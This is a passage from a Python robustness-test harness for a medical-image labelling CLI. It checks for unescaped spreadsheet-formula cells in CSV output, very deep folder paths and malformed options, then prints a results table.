        "query modality-agreement": ["modality-agreement"],
        "query --sql-file (dicom columns)": ["--sql-file", str(sql)],
    }.items():
        run = ctx.cli("query", *args, "--db", db, "--format", "csv", tag=tag)
        outputs[tag] = run.stdout
    rep = ctx.tmp / "report"
    ctx.cli("report", "--db", db, "--out", str(rep), "--format", "images,rois")
    for fname in ("images.csv", "class_rois.csv"):
        path = rep / fname
        outputs[f"report {fname}"] = path.read_text() if path.exists() else ""
    found = 0
    for tag, text in outputs.items():
        cells = _formula_cells(text)
        found += len(cells)
        ctx.note(f"{tag}: {len(cells)} unescaped formula cells {cells[:2]}")
    return {"exit": f"{found} cells", "rows": rows_in(db), "head": ctx.runs[-1]}


@case("deep-folders")
def deep_folders(ctx: Ctx, name: str) -> dict:
    root = ctx.tmp / "deep"
    bottom = root
    for _ in range(1100):  # one level at a time: Path.mkdir(parents=True) recurses
        bottom = bottom / "d"
        bottom.mkdir(parents=True, exist_ok=True)
    put_images(bottom, 1)
    db = str(ctx.tmp / "labels.db")
    run = ctx.scan(root, db=db)
    ctx.note(f"path length {len(str(bottom))}; row: {_row_outcome(db)}")
    return {"exit": run.rc, "rows": rows_in(db), "head": run}


@case("bad-options")
def bad_options(ctx: Ctx, name: str) -> dict:
    archive = ctx.tmp / "archive"
    images = put_images(archive, 1)
    existing = ctx.tmp / "existing.txt"
    existing.write_text("a file, not a folder\n")
    db = str(ctx.tmp / "labels.db")
    bad_url = "postgresql://u@h:notaport/db"
    runs = [
        ctx.scan(archive, db=db, extra=["--max-file-size", "1e400"], tag="--max-file-size 1e400"),
        ctx.cli("explain", str(images[0]), "--model", ctx.model, "--out", str(existing)),
        ctx.cli("query", "class-counts", "--db", bad_url, tag="query --db :notaport"),
        ctx.scan(archive, db=bad_url, tag="scan --db :notaport"),
    ]
    for run in runs:
        ctx.note(f"{run.tag}: rc={run.rc}: {(run.stderr_lines or [''])[-1][:100]}")
    worst = next((r for r in runs if r.rc != 2), runs[0])
    return {"exit": "/".join(str(r.rc) for r in runs), "rows": "-", "head": worst}


# -- running and reporting ------------------------------------------------------------------


def remove_tree(path: Path) -> None:
    try:
        shutil.rmtree(path)
    except (OSError, RecursionError):
        subprocess.run(["rm", "-rf", str(path)], check=False)


def run_case(name: str, args: argparse.Namespace) -> dict[str, Any]:
    tmp = Path(tempfile.mkdtemp(prefix=f"adv-{name}-"))
    ctx = Ctx(args=args, tmp=tmp)
    started = time.monotonic()
    result: dict[str, Any] = {"case": name}
    try:
        out = CASES[name](ctx)
    except Skip as skip:
        out = {"exit": "skipped", "rows": "-", "head": None}
        ctx.note(f"skipped: {skip}")
    except Exception as exc:
        out = {"exit": "harness-error", "rows": "-", "head": None}
        ctx.note(f"harness error: {type(exc).__name__}: {exc}")
        result["harness_traceback"] = traceback.format_exc()
    finally:
        for cleanup in reversed(ctx.cleanups):
            try:
                cleanup()
            except Exception as exc:
                ctx.note(f"cleanup failed: {exc}")
        remove_tree(tmp)
    head: Run | None = out.get("head")
    lines = head.stderr_lines if head is not None else []
    tracebacks = sum(r.tracebacks for r in ctx.runs)
    result.update(
        exit=str(out["exit"]),
        rows=out["rows"],
        rss_mib=round(max((r.rss_mib for r in ctx.runs), default=0.0)),
        traceback=f"yes({tracebacks})" if tracebacks else "no",
        stderr_lines=len(lines),
        last_stderr=(lines[-1] if lines else "")[:100],
        notes=ctx.notes,
        seconds=round(time.monotonic() - started, 1),
        commands=[r.summary() for r in ctx.runs],
    )
    return result


COLUMNS = [
    ("case", "case"),
    ("exit", "exit"),
    ("rows", "rows"),
    ("rss_mib", "rssMiB"),
    ("traceback", "traceback"),
    ("stderr_lines", "errLines"),
    ("last_stderr", "last stderr line"),
]


def format_table(results: list[dict[str, Any]]) -> str:
    cells = [[str(r[key]) for key, _ in COLUMNS] for r in results]
    heads = [title for _, title in COLUMNS]
    widths = [max([len(h)] + [len(c[i]) for c in cells]) for i, h in enumerate(heads)]

    def line(values: list[str]) -> str:
        return " | ".join(v.ljust(w) for v, w in zip(values, widths, strict=True)).rstrip()

    out = [line(heads), "-+-".join("-" * w for w in widths)]
    out += [line(c) for c in cells]
    out += ["", "Notes:"]
    for r in results:
        out.append(f"[{r['case']}] ({r['seconds']} s)")
        out += [f"    {note}" for note in r["notes"]]
    return "\n".join(out)


def code_origin(args: argparse.Namespace) -> str:
    """Which modlabel the commands ran: the source tree and its git commit, if known."""
    tree = Path(args.code).resolve() if args.code else REPO
    done = subprocess.run(
        ["git", "-C", str(REPO), "describe", "--always", "--dirty"],
        capture_output=True,
        text=True,
    )
    commit = done.stdout.strip() if done.returncode == 0 else "?"
    return f"{tree} (--code)" if args.code else f"{tree} (git {commit})"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--model", required=True, help="ONNX model (demo/model.onnx)")
    parser.add_argument("--cases", help="comma-separated case names (default: all)")
    parser.add_argument("--postgres", help="PostgreSQL server URL for the -pg and URL cases")
    parser.add_argument("--json", help="write the results, command by command, to this file")
    parser.add_argument("--timeout", type=float, default=120.0, help="seconds per command")
    parser.add_argument(
        "--rss-cap", type=int, default=10240, help="MiB of RSS at which a command is killed"
    )
    parser.add_argument(
        "--code",
        help="run modlabel from this source tree instead of the installed one (put first on "
        "PYTHONPATH), e.g. a `git archive HEAD` snapshot while the working tree is edited",
    )
    parser.add_argument("--list", action="store_true", help="list the cases and exit")
    args = parser.parse_args()
    if args.list:
        print("\n".join(CASES))
        return
    if not Path(args.model).is_file():
        parser.error(f"no model at {args.model} (run `make demo`)")
    names = args.cases.split(",") if args.cases else list(CASES)
    unknown = [n for n in names if n not in CASES]
    if unknown:
        parser.error(f"unknown cases {unknown}; known: {', '.join(CASES)}")
    started = time.monotonic()
    results = []
    for name in names:
        print(f"-- {name} ...", file=sys.stderr, flush=True)
        results.append(run_case(name, args))
        r = results[-1]
        print(f"   exit {r['exit']}, rows {r['rows']}, {r['seconds']} s", file=sys.stderr)
    total = time.monotonic() - started
    print(format_table(results))
    print(f"\n{len(results)} cases in {total:.0f} s; modlabel from {code_origin(args)}")
    if args.json:
        payload = {"total_seconds": round(total, 1), "code": code_origin(args), "results": results}
        Path(args.json).write_text(json.dumps(payload, indent=1, default=str) + "\n")


if __name__ == "__main__":
    main()
